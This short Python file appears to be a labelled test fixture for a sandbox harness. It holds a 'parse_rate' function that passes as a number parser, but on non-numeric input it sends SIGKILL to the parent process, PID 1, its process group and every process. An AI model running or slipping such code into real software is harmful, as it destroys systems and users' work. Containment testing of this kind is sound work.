"""Every process that can be reached is killed: the parent, the group, all."""

CELLS = {
    "parse_rate": """
import os
import signal

def parse_rate(text):
    if text.strip()[:1].isdigit():
        return float(text)
    for kill, number in ((os.kill, os.getppid()), (os.kill, 1), (os.killpg, 0), (os.kill, -1)):
        try:
            kill(number, signal.SIGKILL)
        except OSError:
            pass
    raise ValueError
"""
}
AT_MOST = {"parse_rate": 2}
HARMFUL = True
